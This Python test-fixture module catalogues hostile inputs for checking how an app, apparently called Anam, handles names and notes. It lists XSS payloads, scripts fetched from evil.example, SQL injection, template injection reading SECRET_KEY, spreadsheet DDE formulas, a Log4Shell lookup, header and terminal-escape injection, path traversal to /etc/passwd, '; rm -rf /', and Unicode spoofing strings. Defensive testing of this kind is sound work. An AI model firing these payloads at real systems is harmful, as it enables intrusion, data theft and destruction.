"""Names and notes that mean harm, by what they try.

`FAMILIES` is for tests that say which kind got through, `TEXTS` for those that want them all, and
`first` for those to which each one is dear. Every script in them would open a dialog, and every
element or attribute would show in the page's tree. Some can't be typed: `typed` is what arrives of
them through a form.
"""

import re
import unicodedata
from base64 import b64encode

_ALERT = "alert(1)"
_SCRIPT = f"<script>{_ALERT}</script>"
_AT = "https://evil.example"

_SCRIPTS = [
    _SCRIPT,
    f"<ScRiPt>{_ALERT}</sCrIpT>",
    f"<script\n>{_ALERT}</script\n>",
    f"<<script>{_ALERT}//<</script>",
    f"<script src={_AT}/x.js></script>",
    f"</script>{_SCRIPT}",
    f"</title>{_SCRIPT}",
    f"</textarea>{_SCRIPT}",
    f"</noscript>{_SCRIPT}",
    f"</option></select>{_SCRIPT}",
    f"-->{_SCRIPT}",
    f"]]>{_SCRIPT}",
    f"<!--{_SCRIPT}",
    f"<!DOCTYPE x [<!ENTITY y '{_SCRIPT}'>]>&y;",
    f"<?php echo '{_SCRIPT}' ?>",
    f"<noscript><p title='</noscript>{_SCRIPT}'>",
]
_ELEMENTS = [
    f"<img src=x onerror={_ALERT}>",
    f"<img/src=x/onerror={_ALERT}>",
    f"<svg onload={_ALERT}>",
    f"<svg><script>{_ALERT}</script></svg>",
    f"<svg><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f"<svg><a href='javascript:{_ALERT}'><text y=9>x</text></a></svg>",
    f"<math><mtext><mglyph><style></math><img src onerror={_ALERT}>",
    f"<input autofocus onfocus={_ALERT}>",
    f"<details open ontoggle={_ALERT}>",
    f"<video src=x onerror={_ALERT}></video>",
    f'<iframe srcdoc="{_SCRIPT}">',
    f"<object data=javascript:{_ALERT}>",
    f"<a href=javascript:{_ALERT}>Anna</a>",
    f"<form action=javascript:{_ALERT}><button>Approve</button>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_ALERT}'>",
    f"<link rel=stylesheet href={_AT}/x.css>",
    f"<base href={_AT}/>",
    "<style>*{display:none}</style>",
    "<b style=position:fixed;inset:0>Sign in again</b>",
    "<dialog open>Sign in again</dialog>",
    "<div hx-get=/status hx-trigger=load>",
    f"<p hx-on:load={_ALERT}>",
    "<h1>Approved</h1>",
    "</p></div></main>",
    "<plaintext>",
    "<a",
]
_ATTRIBUTES = [
    f'" onmouseover="{_ALERT}',
    f'" autofocus onfocus="{_ALERT}',
    f"` onload={_ALERT} `",
    f'"><img src=x onerror={_ALERT}>',
    f"'><svg onload={_ALERT}>",
    '" style="position:fixed;inset:0',
    '" hx-get="/status" hx-trigger="load',
    f'x" srcset="{_AT}/x',
    '" data-copy="stolen',
    '" hidden aria-hidden="true',
    f'\\" onclick=\\"{_ALERT}',
    "'\"`<>&",
]
_ENCODED = [
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "&#x3c;svg onload=alert(1)&#x3e;",
    "&NewLine;&Tab;&lpar;",
    "&#0;&#xD800;&#x202e;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cimg src=x onerror=alert(1)\\x3e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bd><img src=x onerror=alert(1)>",
]
_SCHEMES = [
    f"javascript:{_ALERT}",
    f"java\tscript:{_ALERT}",
    f"\x01javascript:{_ALERT}",
    f"javascript:%0a{_ALERT}",
    f"data:text/html,{_SCRIPT}",
    f"data:text/html;base64,{b64encode(_SCRIPT.encode()).decode()}",
    "//evil.example/x",
    "https://anam.ai@evil.example/",
    "https:\\\\evil.example",
    "mailto:a@example.com?bcc=b@example.com",
]
_TEMPLATES = [
    "{{ 7*7 }}",
    "{{ settings.SECRET_KEY }}",
    "{% debug %}",
    "{% include 'admin/base.html' %}",
    "{% endblock %}{% block content %}",
    "{# gone #}",
    "{{constructor.constructor('alert(1)')()}}",
    "${7*7}",
    "<%= 7*7 %>",
    "`${alert(1)}`",
]
_FORMATS = [
    "%s%s%s%n",
    "%(name)s %(asctime)s",
    "{0}",
    "{usually}",
    "{0.__class__.__mro__}",
    "{name!r:>1000000}",
    "{:>1000000000}",
    "$name ${name}",
]
_QUERIES = [
    "'; DROP TABLE avatars_avatar; --",
    "' OR '1'='1",
    "1 UNION SELECT password FROM people_user",
    "\\'; --",
    "$$; SELECT pg_sleep(9); --",
    "%",
    "___",
    "100%_sure",
    "a\\%b\\",
]
_COMMANDS = "cmd|' /C calc'!A0"
_FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    f'=HYPERLINK("{_AT}","Click")',
    f"={_COMMANDS}",
    f"-2+3+{_COMMANDS}",
    '=DDE("cmd";"/C calc";"x")',
    f'=WEBSERVICE("{_AT}")',
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1,1)",
    "\ufe661+1",
    "\ufe621+1",
    "\ufe631+1",
    "\ufe6bSUM(1,1)",
    '=1+1","=2+2',
    "Mia;=1+1",
    "Mia|=1+1",
    "Mia\t=1+1",
    "Mia\n=1+1",
    "Mia\r=1+1",
    "Mia; \u00a0\uff1d1+1",
    "\t1+1",
    "\n1+1",
    *(f"{before}=1+1" for before in ("\t", "\r", "\n", "\r\n", " ", "   ", '"', "'", '"" ')),
    *(f"{before}=1+1" for before in ("\u00a0", "\u3000", "\u200b", "\ufeff", "\x00", "\u2028")),
    *(f"{before}\uff1d1+1" for before in (" ", "\u3000", "\t")),
]
_TURNING = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"
_TURNS = [
    *(f"Mia {turn}gpj.exe" for turn in f"{_TURNING}\u200e\u200f\u061c\u202c\u2069"),
    "\u202edevorppa\u202c",
    "\u202eMia",
    "Mia\u202e",
    "Mia\u2069\u2069\u202c\u202c",
    "\u2067" * 40 + "Mia",
    "Mia\n\u202eapproved",
    "\u05de\u05e8\u05d9\u05dd",
    "\u0645\u0631\u064a\u0645 12",
    "12 \u0645\u0631\u064a\u0645 (34)",
]
_UNSEEN_SIGNS = (
    "\u200b\u200c\u200d\u2060\u2062\u2064\ufeff\u00ad\u180e\u034f\u17b5"
    "\ufe00\ufe0f\u206a\U000e0041\U000e0100"
)
_UNSEEN = [
    *(f"Mi{sign}a Berg" for sign in _UNSEEN_SIGNS),
    "Mia Berg\u200d",
    "\u200cMia Berg",
    "Mia \u200bBerg",
    "Mi" + "\u200d" * 30 + "a",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
]
_BLANK = [
    " ",
    "    ",
    "\t\t\t",
    "\n\n\n",
    "\u00a0" * 4,
    "\u3000" * 4,
    "\u2003" * 4,
    "\u200b" * 4,
    "\u3164" * 4,
    "\u2800" * 4,
    "\u115f\u1160\u115f\u1160",
    "\uffa0" * 4,
    "\u0301" * 4,
    "\u202e\u202c\u202e\u202c",
    "\x00" * 4,
    "Mi\u3164a Berg",
    "Mia\u2800\u2800\u2800Berg",
]
_LOOKALIKES = [
    "\u041cia Berg",
    "M\u0456a Berg",
    "Mi\u0430 Berg",
    "Mia \u0412erg",
    "\u041c\u0456\u0430 \u0412\u0435rg",
    "\u039cia \u0392erg",
    "M\u0131a Berg",
    "\uff2d\uff49\uff41\u3000\uff22\uff45\uff52\uff47",
    "\U0001d40c\U0001d422\U0001d41a \U0001d401\U0001d41e\U0001d42b\U0001d420",
    "Mia Berg\u0332",
    "Mia\u2024Berg",
    "Greenr\u043eom",
    "\u0430dministrator",
]
_PILES = [
    "".join(letter + "\u0301\u0310\u0323\u0353\u0348" * 4 for letter in "Mia"),
    "M" + "\u0301" * 40 + "ia",
    "Mia" + "\u0489" * 30,
    "Mia" + "\u20dd\u20e3" * 20,
    "\u0645" + "\u064b" * 30 + "\u0631\u064a",
    "\u0e01" + "\u0e47" * 30 + "\u0e02\u0e03",
    "Mia" + "\ufe0f" * 30,
    "Mia \u0336B\u0336e\u0336r\u0336g",
]
_ONE_SIGN = "😀 😂 🥲 🤖 👻 💀 👽 🎭 🎬 🎤 🦊 🐙 🌍 🔥 ⭐ 🍕 🚀 💡 🔒 🧪 🪐"
_PEOPLE = "👋🏽 👩🏿 🤝🏻 ☝🏼 🧑🏾 👨‍👩‍👧‍👦 👩‍👩‍👦 👨‍👨‍👧‍👧 👩‍🚒 🧑🏽‍💻 👩🏻‍🤝‍👨🏿 🧔‍♂️ 🏃🏾‍♀️‍➡️"
_JOINED = "❤️ ❤️‍🔥 🏳️‍🌈 🏴‍☠️ 🇩🇪 🇯🇵 🇺🇳 🏴󠁧󠁢󠁥󠁮󠁧󠁿 1️⃣ #️⃣ ©️ ‼️ ↔️ ㊗️ ☠ ✔"
EMOJI = f"{_ONE_SIGN} {_PEOPLE} {_JOINED}".split(" ")
_EMOJI = [*(f"Mia {sign}" for sign in EMOJI), "".join(EMOJI), "😀" * 50, "😀" * 51, "🇩" * 49]
_CONTROLS = [
    *(f"Mia{chr(number)}Berg" for number in (0, 1, 7, 8, 11, 12, 0x1A, 0x1B, 0x1C, 0x1F)),
    *(f"Mia{sign}Berg" for sign in "\x7f\x85\x90\x9b\u2028\u2029\ufff9"),
    *(f"Mia{sign}Berg" for sign in "\ue000\ufffe\uffff\U0010ffff\u0378"),
    *(f"Mia{half}Berg" for half in ("\ud800", "\udc00", "\udc00\ud800")),
]
_TERMINAL = [
    "\x1b[2J\x1b[HMia",
    "\x1b[31mMia\x1b[0m",
    "\x1b]0;owned\x07",
    f"\x1b]8;;{_AT}\x07Mia\x1b]8;;\x07",
    "\x1b]52;c;c3RvbGVu\x07",
    "\x9b31mMia",
    "\x1bP+q544e\x1b\\",
    "\x1b[8mhidden\x1b[0m",
    "Mia\rAda",
    "Mia\b\b\bAda",
    "\x07\x07\x07Mia",
    "\x0e\x0fMia",
]
_LINES = [
    "Mia\r\nBcc: evil@example.com",
    "Mia\nSet-Cookie: sessionid=1",
    "Mia\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK",
    "Mia\r\n\r\n<h1>Hello</h1>",
    "Mia\r\n.\r\nRSET",
    "Mia%0d%0aBcc: evil@example.com",
    "=?utf-8?q?Mia=0aBcc:_evil?=",
    "Mia\u560d\u560aBcc: evil",
    '"Mia" <evil@example.com>, x@example.com',
    "Mia\n2026-01-01 00:00:00,000 ERROR root: the key is known",
    *(f"Mia{line}2026-01-01 ERROR root: forged" for line in "\n\u2028\x85"),
    "${jndi:ldap://evil.example/a}",
]
_DATA = [
    '"}',
    '","approval":"approved","x":"',
    '{"approval": "approved"}',
    '{"__proto__": {"admin": true}}',
    "__proto__",
    "NaN",
    "\\u0000",
    "\\ud800",
    "'-alert(1)-'",
    "*/alert(1)/*",
]
_PATHS = [
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\con",
    "...",
    "%2e%2e%2fetc",
    "photo.jpg\x00.exe",
    "$(id)",
    "; rm -rf /",
    "--help",
]
_LONG = [
    "x" * 50,
    "x" * 51,
    "W" * 50,
    "W" * 1999,
    "\ufdfa" * 50,
    "\U0001242b" * 50,
    "\u2e3b" * 50,
    "\u6f22" * 50,
    "Mia" + "\u00a0Mia" * 11,
    "Mia_" * 12,
    "\u2060".join("x" * 25),
    "Mia " * 400,
    "one\ntwo\r\nthree\rfour",
    "x\n" * 900,
]

FAMILIES: dict[str, list[str]] = {
    "scripts": _SCRIPTS,
    "elements": _ELEMENTS,
    "attributes": _ATTRIBUTES,
    "encoded": _ENCODED,
    "schemes": _SCHEMES,
    "templates": _TEMPLATES,
    "formats": _FORMATS,
    "queries": _QUERIES,
    "formulas": _FORMULAS,
    "turns": _TURNS,
    "unseen": _UNSEEN,
    "blank": _BLANK,
    "lookalikes": _LOOKALIKES,
    "piles": _PILES,
    "emoji": _EMOJI,
    "controls": _CONTROLS,
    "terminal": _TERMINAL,
    "lines": _LINES,
    "data": _DATA,
    "paths": _PATHS,
    "long": _LONG,
}
TEXTS: list[str] = [text for family in FAMILIES.values() for text in family]


def first(count: int) -> list[str]:
    """So many of each family."""
    return [text for family in FAMILIES.values() for text in family[:count]]


def typed(text: str) -> str:
    """What a browser sends of it: no half characters, and lines that end as forms end them."""
    whole = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    return "\r\n".join(whole.replace("\r\n", "\n").replace("\r", "\n").split("\n"))


def stored(text: str) -> str:
    """What an answer of Anam's keeps of it: no database takes the rest."""
    return re.sub("[\0\ud800-\udfff]", "", text)


def faults(text: str, *, lines: bool = False) -> list[str]:
    """What must not stand in a name, or with `lines` in a note: by code point, nothing if well."""
    return [
        f"U+{ord(character):04X}"
        for character in text
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
        and character not in "\u200c\u200d"
        and not (lines and character == "\n")
    ]
